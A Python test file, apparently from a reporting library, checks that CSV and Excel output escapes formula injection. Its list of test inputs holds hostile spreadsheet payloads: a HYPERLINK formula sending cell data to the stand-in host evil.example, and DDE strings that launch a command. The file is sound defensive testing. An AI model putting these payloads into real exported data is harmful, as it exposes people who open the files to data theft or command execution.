"""Text from data is never live in a spreadsheet: CSV cells and workbook cells (issue #17)."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from sa_lib.output_gate import OutputGate
from sa_lib.report.publish import Publisher, spreadsheet_safe, spreadsheet_text
from sa_lib.run.xlsx import _write_xlsx

FORMULAS = ['=HYPERLINK("http://evil.example/?"&C2,"x")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "\n=1+1", "  =1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "=", "-",
            "+44 1622 602000", "-- not a number", "@home"]
PLAIN = ["Drugs", "-5", "+5", "1,234", "-3.5e2", "12.5%", "", "Anti-social behaviour",
         "Jan 2025 – Dec 2025", "A=B", "x+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_starts_are_written_as_text(text: str) -> None:
    assert spreadsheet_text(text) == "'" + text.replace("\r", "\n")


def test_a_carriage_return_cannot_start_a_new_row() -> None:
    assert spreadsheet_text("ok\r=1+1") == "ok\n=1+1"


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_and_numbers_are_left_alone(text: str) -> None:
    assert spreadsheet_text(text) == text


@given(st.text())
def test_no_escaped_cell_starts_a_formula(text: str) -> None:
    out = spreadsheet_text(text)
    flat = text.replace("\r\n", "\n").replace("\r", "\n")
    assert out == flat or out == "'" + flat
    assert spreadsheet_text(out) == out  # idempotent: the workbook re-reads escaped CSVs


def test_numbers_and_missing_values_keep_their_types() -> None:
    df = pd.DataFrame({"n": [1, -2], "x": [0.5, float("nan")], "t": ["=1", None]})
    out = spreadsheet_safe(df)
    assert out["n"].tolist() == [1, -2] and out["x"].isna().tolist() == [False, True]
    assert out["t"].tolist()[0] == "'=1" and pd.isna(out["t"].tolist()[1])
    assert df["t"].tolist()[0] == "=1"  # the caller's frame is not changed


def test_published_csv_and_workbook_hold_no_formula(tmp_path: Path) -> None:
    build = tmp_path / "official"
    pub = Publisher(build)
    df = pd.DataFrame({"theme": FORMULAS, "count": range(len(FORMULAS))})
    pub.table(df, "themes", "Themes")
    with (build / "tables" / "themes.csv").open(encoding="utf-8", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert all(spreadsheet_text(c) == c for c in cells)  # nothing left to escape
    assert sum(c.startswith("'") for c in cells) == len(FORMULAS) - 0
    # A CSV written by anything else, formulas and all: the workbook still holds text only.
    (build / "tables" / "raw.csv").write_text("name\n=1+1\n@SUM(A1)\n", encoding="utf-8")
    _write_xlsx(build, OutputGate(tmp_path))
    book = load_workbook(build / "tables.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    values = {c.value for c in cells}
    assert "'=1+1" in values and f"'{FORMULAS[0]}" in values


def test_a_table_with_no_columns_is_an_empty_sheet(tmp_path: Path) -> None:
    """An empty table (no partner returns at all) must not stop the workbook."""
    build = tmp_path / "official"
    Publisher(build).table(pd.DataFrame(), "sources_partner", "Partner returns loaded")
    _write_xlsx(build, OutputGate(tmp_path))
    book = load_workbook(build / "tables.xlsx")
    assert "sources_partner" in book.sheetnames
